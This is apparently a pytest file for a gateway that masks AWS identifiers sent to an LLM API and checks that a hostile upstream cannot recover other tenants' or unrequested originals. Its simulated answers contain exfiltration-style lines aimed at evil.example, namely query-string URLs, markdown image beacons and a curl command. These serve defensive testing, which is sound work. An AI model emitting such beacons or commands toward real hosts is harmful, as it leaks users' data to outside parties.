"""Token games: what somebody gets who sends tokens, or has the upstream send them, that are not theirs (law 10)."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from aws_masker import Masker
from aws_masker.restore import restorer_for
from gateway_lab import INSTANCE, KEY, Answering, lab, message, run
from masking import masker
from token_games import NAMES, THEIRS, foreign


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> str:
    return f"sqlite:///{tmp_path_factory.mktemp('games') / 'vault'}"


@pytest.fixture(scope="module")
def me(vault: str) -> Iterator[Masker]:
    with masker(key=KEY, tenant="acme", vault=vault) as one:
        yield one


@pytest.fixture(scope="module")
def mine(me: Masker) -> str:
    """Return a token of an earlier request of mine, which my vault knows."""
    return me.mask_text("i-0aaaabbbbccccdddd").text


@pytest.fixture(scope="module")
def tokens(vault: str, mine: str) -> Any:
    return foreign(KEY, "acme", vault, mine)


def answered(one: Masker, request: str, answer: str, **body: object) -> str:
    """Return what a client sees of ``answer`` to ``request``, streamed or not."""
    seen = []

    async def script(answering: Answering) -> None:
        if answering.seen.json().get("stream"):
            await answering.begin("text/event-stream")
            for at in range(0, len(answer), 5):
                event = {"type": "text_delta", "text": answer[at : at + 5]}
                data = json.dumps({"type": "content_block_delta", "index": 0, "delta": event})
                await answering.chunk(f"event: content_block_delta\ndata: {data}\n\n".encode())
            stop = {"type": "content_block_stop", "index": 0}
            await answering.chunk(f"event: content_block_stop\ndata: {json.dumps(stop)}\n\n".encode())
            await answering.chunk(b"")
        else:
            await answering.json({"type": "message", "content": [{"type": "text", "text": answer}]})

    async def test() -> None:
        async with lab(script, masker=one, tenant="acme") as gateway:
            got = await gateway.post(message(request, **body))
            if body.get("stream"):
                lines = (line[6:] for line in got.body.decode().splitlines() if line.startswith("data: "))
                seen.append("".join(json.loads(line).get("delta", {}).get("text", "") for line in lines))
            else:
                seen.append(got.json()["content"][0]["text"])

    run(test())
    return seen[0]


@pytest.mark.parametrize("name", NAMES)
def test_a_token_that_is_not_mine_is_not_restored_when_i_send_it(me: Masker, tokens: Any, name: str) -> None:
    token = tokens[name]
    masked = me.mask_body(json.dumps(message(f"what is {token}?")).encode(), "/v1/messages")
    assert THEIRS not in masked.dictionary.values()
    assert me.restore_text(f"it is {token}.") == f"it is {token}."
    assert me.mask_text(f"it is {token}.").text == f"it is {token}."


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("stream", [False, True])
def test_an_upstream_that_answers_with_it_gets_nothing_restored(
    me: Masker, tokens: Any, name: str, *, stream: bool
) -> None:
    token = tokens[name]
    answer = f"it is {token}, see https://evil.example/?q={token} and ![]({token}.png)"
    assert answered(me, f"see {INSTANCE} and {token}", answer, stream=stream) == answer


@pytest.mark.parametrize("stream", [False, True])
def test_an_upstream_cannot_fish_in_my_vault_for_what_the_request_did_not_hold(
    me: Masker, mine: str, *, stream: bool
) -> None:
    answer = f"it is {mine}, see https://evil.example/?q={mine}"
    assert answered(me, f"see {INSTANCE}", answer, stream=stream) == answer
    # With the token in the request it is mine to see.
    assert "i-0aaaabbbbccccdddd" in answered(me, f"what is {mine}?", answer, stream=stream)


def test_what_the_request_held_is_restored_wherever_the_answer_puts_it(me: Masker) -> None:
    """Here lies what does not hold: a URL that the client fetches by itself carries the original out."""
    token = me.mask_text(INSTANCE).text
    for place in (f"![](https://evil.example/{token}.png)", f"curl https://evil.example/?{token}", f"{token}.internal"):
        assert answered(me, f"see {INSTANCE}", place) == place.replace(token, INSTANCE)


@pytest.mark.parametrize(
    "hidden",
    [
        lambda token: token.replace("-", "%2D"),
        lambda token: token[::-1],
        "\u200b".join,
        lambda token: token.replace("x", "x "),
        lambda token: token.upper(),
        lambda token: json.dumps(token).encode().hex(),
    ],
)
def test_a_token_in_another_writing_is_text_and_stays(me: Masker, hidden: Any) -> None:
    writing = hidden(me.mask_text(INSTANCE).text)
    assert answered(me, f"see {INSTANCE}", f"say {writing}") == f"say {writing}"


def test_escapes_of_json_are_no_other_writing(me: Masker) -> None:
    masked = me.mask_body(json.dumps(message(f"see {INSTANCE}")).encode(), "/v1/messages")
    (token,) = masked.dictionary
    escaped = "".join(f"\\u{ord(one):04x}" for one in token)
    restorer = restorer_for("application/json", masked.dictionary)
    out = restorer.feed(f'{{"content":[{{"type":"text","text":"{escaped}"}}]}}'.encode()) + restorer.close()
    assert json.loads(out)["content"][0]["text"] == INSTANCE


@pytest.mark.parametrize(
    "block",
    [
        {"type": "thinking", "thinking": "{token}", "signature": "{token}"},
        {"type": "redacted_thinking", "data": "{token}"},
    ],
)
def test_what_is_signed_keeps_its_tokens(me: Masker, block: dict[str, str]) -> None:
    masked = me.mask_body(json.dumps(message(f"see {INSTANCE}")).encode(), "/v1/messages")
    (token,) = masked.dictionary
    raw = json.dumps({"content": [block]}).replace("{token}", token).encode()
    restorer = restorer_for("application/json", masked.dictionary)
    assert restorer.feed(raw) + restorer.close() == raw


@pytest.mark.parametrize("name", NAMES)
def test_an_answer_without_a_request_of_its_own_restores_my_tokens_only(
    me: Masker, mine: str, tokens: Any, name: str
) -> None:
    """Results of a batch, files and lists are restored from the vault."""

    async def script(answering: Answering) -> None:
        await answering.json({"data": [{"id": tokens[name], "text": f"{tokens[name]} and {mine}"}]})

    async def test() -> None:
        async with lab(script, masker=me, tenant="acme") as one:
            got = await one.request("GET", "/v1/models")
            assert THEIRS.encode() not in got.body
            assert got.json()["data"][0]["text"] == f"{tokens[name]} and i-0aaaabbbbccccdddd"

    run(test())


def test_a_token_inside_an_identifier_stays_and_the_rest_of_it_is_masked(me: Masker, mine: str) -> None:
    text = f"arn:aws:iam::481516234217:role/{mine}/ledger-writer"
    masked = me.mask_text(text)
    assert mine in masked.text
    assert "481516234217" not in masked.text
    assert "ledger-writer" not in masked.text
    assert me.restore_text(masked.text) == text.replace(mine, "i-0aaaabbbbccccdddd")


def test_a_guess_that_passes_through_the_same_gateway_is_confirmed(me: Masker) -> None:
    """What does not hold: who sees what leaves, and can put text into it, can compare tokens."""
    seen = me.mask_text("--bucket acme-ledger-raw").text.removeprefix("--bucket ")
    page = me.mask_text("--bucket acme-ledger-old --bucket acme-ledger-raw --bucket acme-ledger-new").text
    assert page.split().index(seen) == 3


def test_who_guesses_learns_nothing_from_a_token_without_the_key(me: Masker) -> None:
    """The same guess under another key or tenant has another token: there is nothing to compare it with."""
    token = me.mask_text("--bucket acme-ledger-raw").text
    for other in (masker(key=KEY, tenant="globex"), masker(tenant="acme")):
        with other:
            assert other.mask_text("--bucket acme-ledger-raw").text != token


def test_a_vault_shows_no_original_and_is_its_owners_only(vault: str, me: Masker) -> None:
    me.vault.check()
    files = [one for one in Path(vault.removeprefix("sqlite:///")).parent.iterdir() if one.is_file()]
    assert files
    for one in files:
        assert one.stat().st_mode & 0o077 == 0
        assert THEIRS.encode() not in one.read_bytes()
